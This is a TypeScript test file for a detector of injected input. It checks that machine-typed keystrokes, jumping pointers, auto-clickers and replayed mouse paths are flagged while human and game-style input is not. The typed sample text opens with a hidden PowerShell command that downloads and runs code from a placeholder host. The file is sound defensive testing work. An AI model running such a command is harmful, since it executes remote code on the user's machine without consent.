import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { InputEvent } from '../events.ts';
import { createRandom } from '../learn/random.ts';
import { createInjectedInputWatch, type InjectedInputSettings } from './injected-input.ts';

const START_US = 1_704_704_400_000_000;
const TEXT = 'powershell -w hidden iex (curl http://x.y/z) and then the quick brown fox jumps over the lazy dog';

const us = (ms: number): number => START_US + Math.round(ms * 1000);
const stroke = (key: string, ms: number, holdMs: number): InputEvent[] => [
  { type: 'keystroke', ts: us(ms), key, event: 'press' },
  { type: 'keystroke', ts: us(ms + holdMs), key, event: 'release' },
];
const typed = (intervalMs: number, holdMs: number): InputEvent[] =>
  Array.from(TEXT, (key, i) => stroke(key, i * intervalMs, holdMs)).flat();
const pointer = (event: 'move' | 'press' | 'release', ms: number, x: number, y: number): InputEvent =>
  event === 'move'
    ? { type: 'mouse', ts: us(ms), x, y, event }
    : { type: 'mouse', ts: us(ms), x, y, event, button: 'Left' };

function watched(events: readonly InputEvent[], settings?: Partial<InjectedInputSettings>) {
  const watch = createInjectedInputWatch(settings);
  const ordered = [...events].sort((a, b) => a.ts - b.ts);
  for (const event of ordered) watch.accept(event);
  return watch.check((ordered.at(-1)?.ts ?? 0) + 1_000_000);
}

test('a typing device is found; what is said of it names no key', () => {
  const found = watched(typed(8, 2));
  assert.ok(found !== null);
  assert.match(found.evidence, /^\d+ keystrokes in 0\.\d s, [a-z0-9 ,]+$/);
  assert.ok(found.events > 60 && found.events <= TEXT.length, `${found.events}`);
  assert.ok(found.firstUs >= START_US && found.lastUs <= us(8 * TEXT.length));
  assert.ok(found.confidence > 0.9);
});

test('input that is declared to be scripted is not watched; nothing else differs', () => {
  assert.equal(watched(typed(8, 2), { expected: true }), null);
  assert.equal(createInjectedInputWatch({ expected: true }).expected, true);
  assert.notEqual(watched(typed(8, 2), { expected: false }), null);
});

test('a key held down is no machine, repeated with releases or without; nor are two keys in turn, as in a game', () => {
  const repeats = Array.from({ length: 400 }, (_, i) => us(660 + 30 * i));
  const press = { type: 'keystroke', key: 'Down', event: 'press' } as const;
  assert.equal(watched([{ ...press, ts: us(0) }, ...repeats.map((ts) => ({ ...press, ts }))]), null);
  assert.equal(watched(Array.from({ length: 400 }, (_, i) => stroke('Down', 30 * i, 30)).flat()), null);
  assert.equal(
    watched(Array.from({ length: 400 }, (_, i) => stroke(i % 2 === 0 ? 'z' : 'x', 70 * i, 35)).flat()),
    null,
  );
});

test('asked again, it answers only if something came; an episode grows; reset forgets', () => {
  const watch = createInjectedInputWatch();
  const events = typed(100, 40);
  for (const event of events.slice(0, 80)) watch.accept(event);
  const first = watch.check(us(5000));
  assert.equal(watch.check(us(5001)), null);
  for (const event of events.slice(80)) watch.accept(event);
  const second = watch.check(us(20_000));
  assert.ok(first !== null && second !== null);
  assert.equal(second.firstUs, first.firstUs);
  assert.ok(second.lastUs > first.lastUs && second.events > first.events);
  for (const event of events.slice(0, 60)) watch.accept(event);
  watch.reset();
  assert.equal(watch.check(us(30_000)), null);
});

test('a pointer that jumps is found; fingers on a touch screen, which jump as well, are not', () => {
  const random = createRandom(3);
  const taps = (holdMs: (i: number) => number, pressAfterMs: number): InputEvent[] =>
    Array.from({ length: 12 }, (_, i) => {
      const [ms, x, y] = [2000 * i, 100 + random.int(1500), 100 + random.int(800)];
      return [
        pointer('move', ms, x, y),
        pointer('press', ms + pressAfterMs, x, y),
        pointer('release', ms + pressAfterMs + holdMs(i), x, y),
      ];
    }).flat();
  const found = watched(taps(() => 1, 0));
  assert.equal(found?.kind, 'teleporting mouse');
  assert.match(found.evidence, /^\d of the last 6 movements jumped \d+ px on average, with no path between$/);
  assert.equal(watched(taps(() => 80, 200))?.kind, 'teleporting mouse');
  assert.equal(watched(taps((i) => 60 + 10 * (i % 5), 2)), null);
});

test('an auto-clicker is found, a steady finger is not', () => {
  const clicks = (jitterMs: number): InputEvent[] => {
    const random = createRandom(5);
    let ms = 0;
    return Array.from({ length: 40 }, () => {
      ms += 150 + jitterMs * random.normal();
      return [pointer('press', ms, 500, 500), pointer('release', ms + 1, 500, 500)];
    }).flat();
  };
  assert.equal(watched(clicks(0.5))?.kind, 'periodic mouse');
  // 5 % of the interval: steadier than most people tap.
  assert.equal(watched(clicks(7.5)), null);
});

test('the same path drawn again, pixel by pixel, is a replay', () => {
  const random = createRandom(11);
  let [x, y] = [500, 500];
  const path = Array.from({ length: 60 }, (_, i) => {
    x += 3 + random.int(15);
    y += random.int(21) - 12;
    return pointer('move', 12 * i + random.int(4), x, y);
  });
  const again = path.map((event) => ({ ...event, ts: event.ts + 5_000_000 }));
  assert.equal(watched(path), null);
  assert.equal(watched([...path, ...again])?.kind, 'replayed recording');
});
